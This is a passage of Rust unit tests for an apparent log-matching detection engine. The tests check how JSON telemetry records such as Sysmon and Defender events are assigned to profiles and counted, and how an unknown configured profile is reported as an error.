                br#"{"records":[{"category":"x"}]}"#,
                "DefenderStreamingExport",
            ),
            // The Type field names the table outright.
            (br#"{"Type":"Sysmon","RemoteIP":"1.2.3.4"}"#, "Sysmon"),
        ] {
            let before = e.counters().records_by_profile.get(profile).copied();
            e.evaluate(record, 0);
            let after = e.counters().records_by_profile.get(profile).copied();
            assert_eq!(
                after.unwrap_or(0),
                before.unwrap_or(0) + 1,
                "{}",
                String::from_utf8_lossy(record)
            );
        }
    }

    #[test]
    fn a_record_without_a_profile_is_a_counted_miss() {
        let mut e = engine("");
        assert_eq!(
            e.evaluate(br#"{"src":"194.48.251.24"}"#, 0).verdict,
            Verdict::Miss
        );
        assert_eq!(e.counters().without_profile, 1);
    }

    #[test]
    fn an_unknown_forced_profile_is_a_settings_error() {
        let input = FeedInput {
            name: "tf",
            format: FeedFormat::Auto,
            content: FEED,
        };
        let err = Detector::build(&[input], "profile = \"Nope\"").unwrap_err();
        assert_eq!(err.input, "settings");
        assert!(
            err.message.contains("Nope") && err.message.contains("DeviceNetworkEvents"),
            "{err}"
        );
    }
}
